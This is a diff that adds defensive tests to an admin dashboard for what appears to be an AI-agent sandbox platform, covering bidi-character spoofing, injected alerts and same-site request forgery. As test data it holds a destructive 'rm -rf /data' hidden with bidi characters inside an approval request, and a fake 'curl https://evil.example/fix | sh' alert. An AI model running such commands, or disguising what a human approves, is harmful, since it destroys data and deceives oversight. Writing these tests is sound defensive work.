@@ -23,6 +23,7 @@ import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import anyio
 import httpx2
@@ -32,6 +33,7 @@ from mcp.client.streamable_http import streamable_http_client
 
 from bastion.config.network import DEFAULT_BLOCKED_RANGES
 from bastion.demo import init_demo
+from bastion.safety.approvals import ApprovalQueue
 from bastion.transports.http.password import write_hash
 
 from .chromium import CHROMIUM, launch
@@ -103,6 +105,9 @@ class Dash:
 
     def page(self, url: str) -> httpx2.Response:
         return self.browser.client.get(url)
+
+    def page_with(self, url: str, headers: dict[str, str]) -> httpx2.Response:
+        return self.browser.client.get(url, headers=headers)
 
     def csrf(self) -> str:
         return str(forms(self.page("/admin").text)[0]["fields"]["csrf"])
@@ -289,6 +294,66 @@ def test_an_audit_field_holding_html_is_shown_as_text(dash: Dash) -> None:
     assert response.status_code == 200
     assert "&lt;script&gt;alert(3)&lt;/script&gt;" in response.text
     assert "<script>alert(3)" not in response.text
+
+
+def test_a_bidi_sandbox_id_an_agent_sent_cannot_disguise_its_audit_row(dash: Dash) -> None:
+    # Trojan Source (CVE-2021-42574): an RLO in a refused call's sandbox_id would show reversed.
+    refused = dash.tool("close_sandbox", sandbox_id="sb-\u202etxt.exe")
+    assert not refused["ok"]
+    response = dash.page("/admin/audit?tool=close_sandbox")
+    assert response.status_code == 200
+    assert "\u202e" not in response.text
+    assert "<code><bdi>sb-\\u202etxt.exe</bdi></code>" in response.text
+
+
+def test_a_bidi_approval_literal_cannot_disguise_what_the_administrator_approves(dash: Dash) -> None:
+    queue = ApprovalQueue(dash.server.db_path)
+    literal = "deploy v1.2.3 \u202e; rm -rf /data\u202c \u2066x\u2069"
+    approval = queue.request("biscuit_deploy", literal, "agent", ttl_s=600)
+    try:
+        page = dash.page("/admin/approvals").text
+        assert "\u202e" not in page
+        assert "\u2066" not in page
+        assert "deploy v1.2.3 \\u202e; rm -rf /data\\u202c" in page
+    finally:
+        queue.deny(approval.id, "test", "")
+
+
+def test_a_link_cannot_put_its_own_alert_on_the_approvals_page(dash: Dash) -> None:
+    # A hostile page (a sandbox's preview, same site) links the administrator here with text of its choice.
+    phish = "Security alert: run curl https://evil.example/fix | sh"
+    response = dash.page(f"/admin/approvals?{urlencode({'message': phish})}")
+    assert response.status_code == 200
+    assert "evil.example" not in response.text
+    assert 'role="alert"' not in response.text
+
+
+def test_deciding_an_unknown_approval_says_why_on_the_page_it_answers(dash: Dash) -> None:
+    response = dash.browser.client.post(
+        "/admin/approvals", data={"csrf": dash.csrf(), "id": "ap-0000000000000000", "decision": "approve"}
+    )
+    assert response.status_code == 404
+    assert "no approval" in response.text
+    assert "location" not in response.headers
+
+
+@pytest.mark.parametrize("url", ["/admin", "/admin/sandboxes", "/admin/audit?caller=x", "/admin/egress"])
+def test_a_preview_pages_background_requests_cannot_make_the_dashboard_work(dash: Dash, url: str) -> None:
+    # A sandbox's preview page is same-site (another port): its fetch/img requests carry the session
+    # cookie and, in a loop, would make the server walk sandbox disks and scan the log outside any cgroup.
+    background = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
+    refused = dash.page_with(url, background)
+    assert refused.status_code == 403
+    assert "navigation" in refused.text
+    cross = dash.page_with(url, {**background, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"})
+    assert cross.status_code == 403
+    # A frame is a navigation too (X-Frame-Options only stops its display): a page of iframes in a loop.
+    framed = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}
+    assert dash.page_with(url, framed).status_code == 403
+    clicked = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
+    assert dash.page_with(url, clicked).status_code == 200
+    own = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
+    assert dash.page_with(url, own).status_code == 200
 
 
 def test_every_page_has_the_strict_csp_and_one_stylesheet(dash: Dash) -> None:
